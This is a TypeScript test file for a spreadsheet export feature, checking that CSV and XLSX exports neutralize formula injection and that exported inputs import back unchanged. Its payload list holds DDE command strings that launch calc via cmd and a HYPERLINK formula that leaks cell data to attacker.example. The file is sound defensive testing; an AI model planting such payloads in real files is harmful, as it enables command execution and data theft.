import { strToU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";

import type { DossierFile } from "@gcm-review/validation";

import { exportInputs } from "../src/export-inputs.js";
import { planImport } from "../src/import-plan.js";
import { neutralizeFormula } from "../src/neutralize.js";
import { readTable } from "../src/read-table.js";
import { exampleDossier, today } from "./fixtures/dossier.js";

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
];

// An input whose every text field starts with a payload.
function hostileDossier(review: DossierFile): DossierFile[] {
  const quote = (text: string) => JSON.stringify(text);
  const yaml = [
    "id: hostile-01",
    "kind: stakeholder",
    `submitter: { name: ${quote(PAYLOADS[0] ?? "")}, category: civil-society }`,
    "language: en",
    "submittedOn: 2024-05-01",
    `title: ${quote(PAYLOADS[1] ?? "")}`,
    `summary: ${quote(PAYLOADS[2] ?? "")}`,
    "objectives:",
    `  - { objective: 5, progress: ${quote(PAYLOADS[3] ?? "")}, practices: [${quote(PAYLOADS[4] ?? "")}], challenges: [${quote(PAYLOADS[5] ?? "")}] }`,
    `recommendations: [${quote(PAYLOADS[6] ?? "")}]`,
    "publication: { consent: true }",
    "",
  ].join("\n");
  return [review, { path: "inputs/hostile-01.yaml", bytes: strToU8(yaml) }];
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe("neutralizeFormula", () => {
  it("prefixes every classic payload with an apostrophe and leaves other text alone", () => {
    for (const payload of PAYLOADS) expect(neutralizeFormula(payload)).toBe(`'${payload}`);
    expect(neutralizeFormula("Regular pathways")).toBe("Regular pathways");
    expect(neutralizeFormula("مسارات الهجرة النظامية")).toBe("مسارات الهجرة النظامية");
  });
});

describe("exportInputs", () => {
  it("neutralizes formulas in CSV", async () => {
    const review = (await exampleDossier).find((file) => file.path === "review.yaml");
    if (review === undefined) throw new Error("no review");
    const { bytes, inputs } = await exportInputs({
      dossier: hostileDossier(review),
      locale: "en",
      format: "csv",
    });
    expect(inputs).toBe(1);
    const read = await readTable(bytes, "export.csv");
    if (!read.ok) throw new Error("unreadable export");
    const values =
      read.tables[0]?.rows
        .slice(2)
        .flat()
        .map((cell) => String(cell?.value ?? "")) ?? [];
    for (const payload of PAYLOADS) expect(values).toContain(`'${payload}`);
    expect(values.filter((value) => FORMULA_START.test(value))).toEqual([]);
  });

  it("neutralizes formulas in XLSX and writes no formula cell", async () => {
    const review = (await exampleDossier).find((file) => file.path === "review.yaml");
    if (review === undefined) throw new Error("no review");
    const { bytes } = await exportInputs({
      dossier: hostileDossier(review),
      locale: "ar",
      format: "xlsx",
    });
    const parts = unzipSync(bytes);
    const sheet = new TextDecoder().decode(parts["xl/worksheets/sheet1.xml"]);
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(sheet).toContain('rightToLeft="1"');
    const read = await readTable(bytes, "export.xlsx");
    if (!read.ok) throw new Error("unreadable export");
    const cells = read.tables[0]?.rows.slice(2).flat() ?? [];
    expect(cells.filter((cell) => cell?.formula !== undefined)).toEqual([]);
    // XML turns a carriage return into a line feed when the file is read back; the apostrophe stays first.
    const values = cells.map((cell) => String(cell?.value ?? ""));
    for (const payload of PAYLOADS) expect(values).toContain(`'${payload.replace("\r", "\n")}`);
    expect(values.filter((value) => FORMULA_START.test(value))).toEqual([]);
  });

  it("leaves out and names an input that fails its schema", async () => {
    const dossier = await exampleDossier;
    const broken = {
      path: "inputs/broken.yaml",
      bytes: new TextEncoder().encode("id: broken\nkind: nobody\n"),
    };
    const { inputs, skipped } = await exportInputs({
      dossier: [...dossier, broken],
      locale: "en",
      format: "csv",
    });
    expect(inputs).toBe(16);
    expect(skipped).toEqual(["inputs/broken.yaml"]);
  });

  it("exports the example's inputs so that they import back unchanged", async () => {
    const dossier = await exampleDossier;
    for (const format of ["xlsx", "csv"] as const) {
      const { bytes, inputs, skipped } = await exportInputs({ dossier, locale: "fr", format });
      expect(inputs).toBe(16);
      expect(skipped).toEqual([]);
      const plan = await planImport({
        bytes,
        name: `export.${format}`,
        dossier,
        force: true,
        today,
      });
      expect(plan.issues.filter((issue) => issue.severity === "error")).toEqual([]);
      expect(plan.files).toHaveLength(16);
      const egypt = plan.files.find((file) => file.id === "sample-egy-01");
      expect(egypt?.path).toBe("inputs/egy-01.yaml");
      expect(egypt?.replaces).toBe(true);
      // Every field survives the round trip (`sample` marks bundled examples and is not a template column).
      for (const file of plan.files) {
        const original = dossier.find((entry) => entry.path === file.path);
        const before = parse(new TextDecoder().decode(original?.bytes)) as Record<string, unknown>;
        delete before.sample;
        expect(parse(file.contents)).toEqual(before);
      }
    }
  });
});
